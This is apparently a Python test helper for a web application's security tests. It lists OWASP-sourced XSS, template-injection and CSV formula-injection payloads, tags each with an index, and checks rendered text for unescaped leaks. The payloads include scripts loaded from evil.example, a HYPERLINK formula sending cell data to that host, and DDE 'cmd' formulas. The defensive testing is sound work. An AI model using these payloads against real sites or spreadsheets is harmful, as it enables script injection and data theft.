"""Well-known payloads for stored cross-site scripting, template injection and spreadsheet formula injection
(from the OWASP XSS filter evasion cheat sheet and the OWASP CSV injection page), each marked with its
position so that a leak can be traced to the field it was put in."""

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert('xss')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    "<style>@import 'http://evil.example/xss.css';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "javascript:alert(document.cookie)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "<%= 7*7 %>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Line one\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
]

# Characters that end or start markup: a payload with any of them must never reach a page as it is. (An
# ampersand alone is harmless, and "&lt;script&gt;" is also what the escaped "<script>" looks like.)
HTML_SPECIAL = set("<>\"'")

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def marked(index):
    """The payload at `index` (cycling through the list), tagged ~index~ so that its field can be found again."""
    return f"{PAYLOADS[index % len(PAYLOADS)]} ~{index}~"


MARKER = r"~[0-9]+~"


def leaks(text):
    """The payloads that appear in `text` unchanged although they contain HTML's special characters."""
    return [payload for payload in PAYLOADS if HTML_SPECIAL & set(payload) and payload in text]
